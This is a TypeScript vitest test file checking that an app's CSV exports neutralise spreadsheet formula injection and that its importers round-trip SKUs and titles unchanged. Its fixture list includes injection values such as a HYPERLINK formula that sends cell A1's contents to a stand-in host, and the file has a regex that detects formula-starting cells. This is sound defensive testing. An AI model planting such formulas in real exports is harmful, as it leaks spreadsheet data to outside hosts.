// Every CSV the app writes, read back with papaparse as a spreadsheet would get it: no text cell
// starts with = + - @, a tab or a carriage return (a spreadsheet would run it as a formula); a
// negative number stays a number. The importers take back what the exports wrote, so SKUs such
// as "=1+2" or "-5-PACK" survive export and import unchanged.
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { readCatalogueCsv, writeCatalogueCsv } from '../../electron/station/catalogue/catalogue-csv.js';
import type { BarcodeLink } from '../../electron/station/catalogue/barcode-catalogue.js';
import { bulkExport, bulkTemplate, parseCsv, readBulkCsv, type ExportListing } from '../../shared/listing-csv.js';
import { writeSpreadsheetCsv } from '../../shared/spreadsheet-csv.js';

/** Values a packer, a product title or a pushed title may carry. */
const HOSTILE = ['=HYPERLINK("http://example.test/?q="&A1,"Open")', '=1+2', '+91 98765', '-5-PACK', '@SUM(1)', '\tTAB', '\rCR', "'=already quoted", '-'];

/** The spreadsheet rule: a cell starting so runs as a formula, unless it is only a number. */
const runsAsFormula = (cell: string) => /^[=+\-@\t\r]/.test(cell) && !/^-\d+(?:\.\d+)?$/.test(cell);

function cellsOf(csv: string): string[][] {
  const parsed = Papa.parse<string[]>(csv.replace(/^\uFEFF/, ''), { skipEmptyLines: true });
  expect(parsed.errors).toEqual([]);
  return parsed.data;
}

function expectNoFormula(csv: string) {
  const bad = cellsOf(csv)
    .flat()
    .filter(runsAsFormula);
  expect(bad).toEqual([]);
}

const listing = (sku: string, title: string): ExportListing => ({ sku, productId: 'KTLP4BPLIKTURJ6V', title, mrp: 1299, sellingPrice: 999, inventory: { LOC1: 5 } });

describe('every CSV writer keeps formulas from running', () => {
  it('the list exports (Queue, Activity, warehouse Activity): operator names, titles and SKUs as text', () => {
    const rows = HOSTILE.map((v, i) => [`SH0000000000000${i}`, v, `Product ${v}`, v, String(i)]);
    const csv = writeSpreadsheetCsv([['Shipment', 'Operator', 'Title', 'SKU', 'Units'], ...rows], { byteOrderMark: true });
    expect(csv.startsWith('\uFEFF')).toBe(true);
    expectNoFormula(csv);
    expect(cellsOf(csv)[2]![1]).toBe("'=1+2");
  });

  it('the listings bulk export (price and stock) and its template', () => {
    const listings = HOSTILE.map((v) => listing(v, v));
    expectNoFormula(bulkExport('price', listings));
    expectNoFormula(bulkExport('inventory', listings));
    expectNoFormula(bulkTemplate('price'));
  });

  it('the barcode catalogue export', () => {
    const links = HOSTILE.map((v, i): BarcodeLink => ({ code: `40063813339${i}`, format: 'EAN-13', sku: v, title: v, source: 'import', addedAt: '2026-11-28T10:00:00.000Z' }));
    expectNoFormula(writeCatalogueCsv(links));
  });

  it('leaves numbers as numbers: -3 as a number or as text that is only a number is not a formula', () => {
    const csv = writeSpreadsheetCsv([[-3, '-3', '-2.50', 1299, '-5-PACK', '-3+1']]);
    expect(csv).toBe(`-3,-3,-2.50,1299,"'-5-PACK","'-3+1"\r\n`);
  });
});

describe('the importers take back what the exports wrote', () => {
  const skus = ['=1+2', '-5-PACK', '@SUM(1)', '+91', "'=already quoted", "''=twice", '-3', "'plain apostrophe", 'PEN-BLK'];

  it('listings: export, then import, keeps every SKU and title as it was', () => {
    const prices = readBulkCsv(bulkExport('price', skus.map((s) => listing(s, s))), 'price');
    expect(prices.map((l) => l.sku)).toEqual(skus);
    expect(prices.every((l) => !l.problem && l.mrp === 1299 && l.sellingPrice === 999)).toBe(true);
    const stock = readBulkCsv(bulkExport('inventory', skus.map((s) => listing(s, s))), 'inventory');
    expect(stock.map((l) => [l.sku, l.inventory])).toEqual(skus.map((s) => [s, 5]));
  });

  it('barcodes: export, then import, keeps every SKU and title as it was', () => {
    const links = skus.map((s, i): BarcodeLink => ({ code: `CODE-${i}`, format: 'Code 128', sku: s, title: s, source: 'import', addedAt: '2026-11-28T10:00:00.000Z' }));
    const read = readCatalogueCsv(writeCatalogueCsv(links));
    expect(read.ok && read.rows.map((r) => [r.sku, r.title])).toEqual(skus.map((s) => [s, s]));
  });

  it("keeps an apostrophe the app did not add: one before a plain word or a plain number", () => {
    expect(parseCsv("sku\n'plain\n'-3\n'=x").map((r) => r.fields[0])).toEqual(['sku', "'plain", "'-3", '=x']);
  });
});
